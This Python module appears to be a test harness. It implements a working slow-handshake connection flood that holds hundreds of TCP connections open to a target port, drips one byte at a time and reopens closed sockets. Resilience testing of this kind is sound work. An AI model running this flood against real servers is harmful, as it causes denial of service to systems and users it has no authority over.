"""A slow-handshake connection flood, as an attacker without the secret would run one: `n`
connections to one port, from many local source addresses, each sending one byte every `every_s`
(never finishing a handshake), and any the server closes reopened at once. One thread and
non-blocking sockets, so the attacker itself stays light next to the stack it attacks."""

from __future__ import annotations

import contextlib
import errno
import itertools
import selectors
import socket
import threading
import time


class SlowFlood:
    def __init__(self, address: str, sources: list[str], n: int = 300, every_s: float = 1.5) -> None:
        host, port = address.rsplit(":", 1)
        self.target = (host, int(port))
        self.sources, self.n, self.every_s = sources, n, every_s
        self.opened = self.closed_by_server = 0
        self.by_source: dict[str, int] = dict.fromkeys(sources, 0)
        self._stop = threading.Event()
        self._sel = selectors.DefaultSelector()
        self._next_source = itertools.cycle(sources)
        self._thread = threading.Thread(target=self._run, name="slow-flood", daemon=True)

    def __enter__(self) -> SlowFlood:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(10.0)
        for key in list(self._sel.get_map().values()):
            with contextlib.suppress(OSError):
                key.fileobj.close()
        self._sel.close()

    def _open(self) -> None:
        source = next(self._next_source)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((source, 0))
            err = s.connect_ex(self.target)
        except OSError:
            s.close()
            return
        if err not in (0, errno.EINPROGRESS):
            s.close()
            return
        self.opened += 1
        self.by_source[source] += 1
        # When its next byte is due: spread over the period so the bytes do not come in bursts.
        self._sel.register(s, selectors.EVENT_READ, time.monotonic() + self.every_s * (self.opened % 97) / 97)

    def _run(self) -> None:
        while not self._stop.is_set():
            while len(self._sel.get_map()) < self.n and not self._stop.is_set():
                self._open()
            for key, _ in self._sel.select(timeout=0.05):
                s = key.fileobj
                try:
                    data = s.recv(4096)  # the server's challenge, then EOF or a reset when it closes us
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    self._sel.unregister(s)
                    s.close()
                    self.closed_by_server += 1
            now = time.monotonic()
            for key in list(self._sel.get_map().values()):
                if key.data <= now:
                    with contextlib.suppress(OSError):
                        key.fileobj.send(b"S")  # one byte of a challenge that never completes
                    self._sel.modify(key.fileobj, selectors.EVENT_READ, now + self.every_s)
